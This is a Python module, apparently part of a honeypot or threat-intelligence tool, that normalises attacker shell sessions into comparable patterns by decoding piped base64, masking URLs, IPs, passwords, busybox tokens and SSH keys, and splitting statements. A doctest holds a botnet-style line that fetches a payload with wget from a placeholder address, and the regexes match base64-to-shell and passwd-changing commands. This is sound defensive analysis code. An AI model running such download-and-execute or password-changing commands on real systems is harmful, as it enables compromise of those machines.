"""What was typed into a shell, made comparable: decoded, split into statements, with what varies put aside.

Two sessions of one tool differ in addresses, file names, passwords and architectures. ``masked`` decodes escapes and
base64 that is piped into a shell, puts placeholders where such values stand and keeps the values; ``statements``
splits at ``;``, ``&&``, ``||``, ``|``, ``&`` and line ends, but not within quotes. What is left, the *pattern*, is
the same for sessions of the same script (docs/sessions.md has the figures).

Text comes from attackers. It is cut to ``LONGEST`` characters and ``MOST`` statements, base64 is opened ``DEEPEST``
times, and every expression below takes time linear in the text: repetitions are bounded, or of characters that end
them. Nothing is run, and no name is looked up.
"""

from __future__ import annotations

import base64
import binascii
import re
from collections.abc import Iterator
from dataclasses import dataclass, field
from functools import lru_cache
from typing import Final

from andon.detect.intel.session import words
from andon.records import binaries

LONGEST: Final = 16_384  # characters of a session's commands that are looked at
MOST: Final = 256  # statements
DEEPEST: Final = 3  # base64 within base64
MOST_VALUES: Final = 64  # of each kind that are kept
_KNOWN: Final = 30_000  # words and pieces that are remembered, each no longer than
_SHORT: Final = 256
_LONG: Final = 4  # characters of a password that is looked for elsewhere in quotes of its own

_ANSI: Final = re.compile(r"\$'((?:[^'\\]|\\.){0,4096})'")
_PIPED: Final = re.compile(
    r"echo(?: -\w{1,4}){0,3} {1,8}[\"']?([A-Za-z0-9+/]{8,16384}={0,2})[\"']?\s{0,8}\|\s{0,8}"
    r"(?:openssl )?base64 {1,4}(?:-d|-D|--decode|-di)[^|;\n]{0,64}\|\s{0,8}(?:sudo )?(?:/bin/)?(?:ba|da|k|z|a)?sh\b"
)
_PASSWORD: Final = re.compile(
    r"echo((?:[ ]{1,4}-\w{1,4}){0,3})[ ]{1,4}(\"[^\"]{0,512}\"|'[^']{0,512}'|[^\s|;\"']{1,512})"
    r"([ ]{0,4}\|[ ]{0,4}(?:sudo[ ]{1,4})?(?:ch)?passwd\b)"
)
_LINES: Final = re.compile(r"\\{1,2}n|\n|:")
_TOKEN: Final = re.compile(r"\b(busybox[ \t]{1,8})(\w{3,32})(?=[ \t]{0,8}(?:$|[;&|\n]))", re.M)
_HOSTNAME: Final = re.compile(r"^hostname ([\w.-]{2,32})$", re.M)
_KEY: Final = re.compile(r"\bssh-(?:rsa|dss|ed25519)[ ]{1,4}[A-Za-z0-9+/]{20,4096}={0,2}")
_WORDS: Final = re.compile(r"([\s;|&'\"`()<>]+)")
_VALUES: Final = re.compile(
    "|".join((
        r"(?P<url>\b(?:https?|t?ftps?)://.{1,2048})",
        r"(?P<ip>(?<![\w.])(?:\d{1,3}\.){3}\d{1,3}(?![\w.]))",
        r"(?P<ipv6>(?<![\w:])(?:[0-9a-fA-F]{1,4}:){2,7}[0-9a-fA-F]{1,4}(?![\w:]))",
        r"(?P<hex>(?<![A-Za-z0-9])(?:0x)?[0-9a-fA-F]{16,16384}(?![A-Za-z0-9]))",
        r"(?P<b64>(?<![A-Za-z0-9+/_-])[A-Za-z0-9+/]{40,16384}={0,2})",
        r"(?P<arch>(?<![A-Za-z0-9_])(?:i[3-6]86|x86_64|x86_32|x86|x64|amd64|arm(?:v?[4-8](?:tl|eb|hf|l|n)?|64|hf)?|aarch64|"
        r"mips(?:el|64|eb|le|32)?|mpsl|ppc(?:64le|64|440fp|440)?|powerpc|sh4|spc|sparc|m68k|superh|riscv64)(?![A-Za-z0-9_]))",
        r"(?P<name>(?<![\w.])\.?[A-Za-z0-9]{6,64}(?![\w]))",
        r"(?P<number>(?<=[A-Za-z_.-])\d{2,64}(?!\w)|(?<![\w.])\d{4,64}(?![\w.]))",
    ))
)  # fmt: skip
_PLACEHOLDERS: Final = {
    "url": "<URL>",
    "ip": "<IP>",
    "ipv6": "<IP>",
    "hex": "<HEX>",
    "b64": "<B64>",
    "arch": "<ARCH>",
    "number": "<N>",
}
_SEPARATORS: Final = re.compile(
    r"\\.|'[^'\n]*'|\"(?:[^\"\\\n]|\\.)*\"|awk \{[^{}\n]*\}|(&&|\|\||[;|\n]|(?<![><&])&(?![&>]|[ \t]*>))",
    re.S,
)


@dataclass
class Masked:
    """``pattern``: the text with placeholders. ``values``: what stood there, by kind of placeholder, in order, each
    once, at most ``MOST_VALUES``; of binaries their digests. ``cut``: characters beyond the limit."""

    pattern: str = ""
    values: dict[str, list[str]] = field(default_factory=dict)
    cut: int = 0

    def keep(self, kind: str, value: str) -> None:
        kept = self.values.setdefault(kind, [])
        if len(kept) < MOST_VALUES and value not in kept:
            kept.append(value)


class _Words(dict[str, str]):
    """Words as they stand in patterns; most come again and again."""

    def __missing__(self, word: str) -> str:
        if len(self) >= _KNOWN:
            self.clear()
        text = _VALUES.sub(_placeholder, word) if len(word) > 1 else word
        if len(word) <= _SHORT:
            self[word] = text
        return text


class _Pieces(dict[str, tuple[str, tuple[tuple[str, str], ...]]]):
    """Pieces between semicolons, as they stand in patterns, with the values that they hold: sessions of one script
    differ in a few pieces only."""

    def __missing__(self, piece: str) -> tuple[str, tuple[tuple[str, str], ...]]:
        if len(self) >= _KNOWN:
            self.clear()
        parts = _WORDS.split(piece)
        plain = [*map(_TABLE.__getitem__, parts)]
        values = (
            one
            for before, after in zip(parts, plain, strict=True)
            if before != after
            for one in _values(before)
        )
        made = "".join(plain), tuple(dict.fromkeys(values))
        if len(piece) <= _SHORT:
            self[piece] = made
        return made


_TABLE: Final = _Words()
_PIECES: Final = _Pieces()


def masked(text: str, decode: bool = True) -> Masked:
    """A session's commands, one line each, as a pattern and the values taken out of it. ``decode``: open base64.

    >>> found = masked("cd /tmp; wget http://192.0.2.7/bins/sora.arm7; /bin/busybox SORA")
    >>> found.pattern
    'cd /tmp; wget <URL>; /bin/busybox <TOKEN>'
    >>> found.values["token"], found.values["url"]
    (['SORA'], ['http://192.0.2.7/bins/sora.arm7'])
    """
    found = Masked(cut=max(len(text) - LONGEST, 0))
    text = text[:LONGEST]
    if "$'" in text:
        text = _ANSI.sub(lambda match: match.group(1) if "\\" in match.group(1) else match.group(0), text)
    text = binaries.cut(text)
    if "<BIN " in text:
        text = binaries.LEFT.sub(lambda match: _binary(match, found), text)
    if decode and "base64" in text:
        for _ in range(DEEPEST):
            opened = _PIPED.sub(_opened, text)
            if opened == text:
                break
            text = opened[:LONGEST]
    if "passwd" in text:
        text = _without_passwords(text, found)
    if "busybox" in text:
        text = _TOKEN.sub(lambda match: _token(match, found), text)
    if "hostname " in text:
        text = _HOSTNAME.sub(lambda match: _host(match, found), text)
    if "ssh-" in text:
        text = _KEY.sub(lambda match: _kept(match, "key", "<KEY>", found), text)
    made = []
    for piece in text.split(";"):
        plain, values = _PIECES[piece]
        made.append(plain)
        for kind, value in values:
            found.keep(kind, value)
    found.pattern = _spaced(";".join(made))
    return found


_BLANKS: Final = str.maketrans(dict.fromkeys("\t\r\f\v", " "))


def _spaced(text: str) -> str:
    text = text.translate(_BLANKS) if not text.isprintable() else text
    while "  " in text:
        text = text.replace("  ", " ")
    return text.strip()


def _values(word: str) -> Iterator[tuple[str, str]]:
    for match in _VALUES.finditer(word):
        kind = match.lastgroup or ""
        if kind in ("url", "ip", "ipv6", "arch"):
            yield "ip" if kind == "ipv6" else kind, match.group()
        elif kind == "name" and match.start() == 1 and word[0] == "/" and _placeholder(match) == "<R>":
            yield "marker", word


def _placeholder(match: re.Match[str]) -> str:
    kind, text = match.lastgroup or "", match.group()
    if kind != "name":
        return _PLACEHOLDERS[kind]
    dot = "." if text[0] == "." else ""
    in_path = match.string[match.start() - 1 : match.start()] == "/"
    if words.random_name(text[len(dot) :], in_path):
        return f"{dot}<R>"
    if text[-1].isdigit():
        name = text.rstrip("0123456789")
        return (
            f"{name}<N>"
            if len(text) - len(name) >= 2 and name[-1:].isalpha() and text[len(dot) :] not in words.APPLETS
            else text
        )
    return text


def _binary(match: re.Match[str], found: Masked) -> str:
    found.keep("binary", match.group(2))
    return "<BIN>"


def _opened(match: re.Match[str]) -> str:
    try:
        data = base64.b64decode(match.group(1) + "=" * (-len(match.group(1)) % 4), validate=True)
    except (binascii.Error, ValueError):
        return match.group(0)
    return data.decode("ascii") if binaries.printable(data) else match.group(0)


def _kept(match: re.Match[str], kind: str, placeholder: str, found: Masked) -> str:
    found.keep(kind, match.group())
    return placeholder


def _token(match: re.Match[str], found: Masked) -> str:
    if match.group(2) in words.APPLETS:
        return match.group()
    found.keep("token", match.group(2))
    return f"{match.group(1)}<TOKEN>"


def _host(match: re.Match[str], found: Masked) -> str:
    found.keep("token", match.group())
    return "hostname <TOKEN>"


def _without_passwords(text: str, found: Masked) -> str:
    """Passwords that are set, and the same words where they stand at the end of a quoted text."""

    def gone(match: re.Match[str]) -> str:
        for part in _LINES.split(match.group(2).strip("\"'")):
            if part:
                found.keep("password", part)
        return f"echo{match.group(1)} <PW>{match.group(3)}"

    text = _PASSWORD.sub(gone, text)
    for password in found.values.get("password", ()):
        if password in text:
            text = text.replace(f' {password}"', ' <PW>"').replace(f" {password}'", " <PW>'")
            if len(password) >= _LONG:
                text = text.replace(f'"{password}"', '"<PW>"').replace(f"'{password}'", "'<PW>'")
    return text


@lru_cache(maxsize=8192)
def statements(pattern: str, background: bool = True) -> tuple[str, ...]:
    """The statements of a pattern, at most ``MOST``; separators within quotes do not separate, ``>&`` is none.
    ``background``: a single ``&`` separates too.

    >>> statements("cd /tmp && wget <URL>; awk '{print $4 ; }' | sh")
    ('cd /tmp', 'wget <URL>', "awk '{print $4 ; }'", 'sh')
    """
    made: list[str] = []
    begin = 0
    for match in _SEPARATORS.finditer(pattern):
        if match.group(1) and (background or match.group(1) != "&"):
            if one := pattern[begin : match.start()].strip():
                made.append(one)
                if len(made) >= MOST:
                    return tuple(made)
            begin = match.end()
    if one := pattern[begin:].strip():
        made.append(one)
    return tuple(made)
